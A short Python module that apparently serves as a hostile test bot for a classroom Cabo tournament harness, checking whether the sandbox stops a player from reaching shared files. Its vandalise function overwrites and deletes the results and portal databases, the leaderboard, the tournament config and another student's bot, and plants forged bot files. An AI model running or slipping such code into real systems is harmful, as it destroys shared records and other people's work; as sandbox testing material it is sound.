"""Hostile: in the class's games, tries to damage the store, the portal's data and the other students' files."""

import os

import cabo_kit as ck


def vandalise(folder):
    done = []
    for name in ["results.sqlite", "portal/portal.sqlite", "bots/s000.py", "leaderboard.csv", "tournament.toml"]:
        path = os.path.join(folder, name)
        try:
            with open(path, "r+b") as f:
                f.write(b"VANDALISED" * 100)
            done.append("wrote " + name)
        except OSError:
            pass
        try:
            os.remove(path)
            done.append("removed " + name)
        except OSError:
            pass
    for name in ["bots/s001.py", "bots/forged.py", "results.sqlite-journal"]:
        try:
            with open(os.path.join(folder, name), "wb") as f:
                f.write(b"import cabo_kit\n")
            done.append("created " + name)
        except OSError:
            pass
    return done


class Vandal(ck.Bot):
    def on_game_start(self, seat, n_players, rules):
        if in_games(rules):
            folder = class_folder()
            print("VANDAL-FOLDER", "none" if folder is None else "found", flush=True)
            if folder is not None:
                print("VANDAL-DID " + " | ".join(vandalise(folder) or ["nothing"]), flush=True)

    def choose(self, observation, legal_actions):
        return legal_actions[self.random.randrange(len(legal_actions))]
